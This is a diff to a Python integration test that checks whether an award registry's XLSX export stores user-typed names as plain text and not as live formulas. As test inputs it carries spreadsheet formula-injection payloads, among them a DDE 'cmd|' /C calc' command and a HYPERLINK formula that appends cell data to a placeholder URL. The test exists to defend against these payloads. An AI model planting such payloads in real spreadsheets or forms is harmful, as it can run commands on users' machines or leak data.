@@ -21,6 +21,7 @@ from recognition.extensions import db
 from recognition.nominations.models import Nomination
 from tests.conftest import Client
 from tests.decisions.helpers import (
+    ISSUE_DAY,
     certificates_of,
     client_for,
     drafted,
@@ -28,10 +29,12 @@ from tests.decisions.helpers import (
     issued,
     page_text,
     passed,
+    passed_person,
+    person_award,
     posting_award,
     stored,
 )
-from tests.workflow.helpers import Scene, build_scene, error_page, flashes
+from tests.workflow.helpers import Scene, build_scene, error_page, flashes, new_hamlet
 
 pytestmark = pytest.mark.integration
 
@@ -477,6 +480,45 @@ def test_the_golden_book_as_xlsx(scene: Scene, clients: dict[str, Client]) -> No
             "04/03/2026",
             "Đã thu hồi",
         ),
+    ]
+
+
+HYPERLINK = '=HYPERLINK("http://x"&C4,"Bấm để xem")'
+
+
+def test_the_golden_book_as_xlsx_keeps_every_text_from_users_a_plain_string(
+    scene: Scene, clients: dict[str, Client]
+) -> None:
+    # RELIABILITY.md, "Exports": a name typed as a formula stays the text it is.
+    scene.body.name = "=1+2"
+    scene.commune_a.name = "\t=1+1"
+    award = person_award(scene)
+    award.name = "-2+3+cmd|' /C calc'!A0"
+    person = passed_person(
+        scene, award, name=HYPERLINK, position="@SUM(1+1)", unit=new_hamlet(scene, "+1+1")
+    )
+    decision = drafted(scene, [person, passed(scene, name="=1+1"), passed(scene, name="Ấp Vàng")])
+    services.issue_decision(decision, actor=scene.chair, today=ISSUE_DAY)
+    committed(decision)
+
+    response = clients["chair"].get(
+        f"/decisions/golden-book/{scene.body.id}", query_string={"format": "xlsx"}
+    )
+
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    assert (sheet["A1"].data_type, sheet["A1"].value) == ("s", "SỔ VÀNG KHEN THƯỞNG — =1+2")
+    assert sorted(
+        tuple(
+            (sheet.cell(row, column).data_type, sheet.cell(row, column).value)
+            for column in (3, 4, 5)
+        )
+        for row in range(4, sheet.max_row + 1)
+    ) == [
+        (("s", "'=1+1"), ("s", "'\t=1+1"), ("s", "Tập thể tiêu biểu")),
+        (("s", "'" + HYPERLINK), ("s", "'@SUM(1+1), +1+1"), ("s", "'-2+3+cmd|' /C calc'!A0")),
+        (("s", "Ấp Vàng"), ("s", "'\t=1+1"), ("s", "Tập thể tiêu biểu")),
     ]
 
 
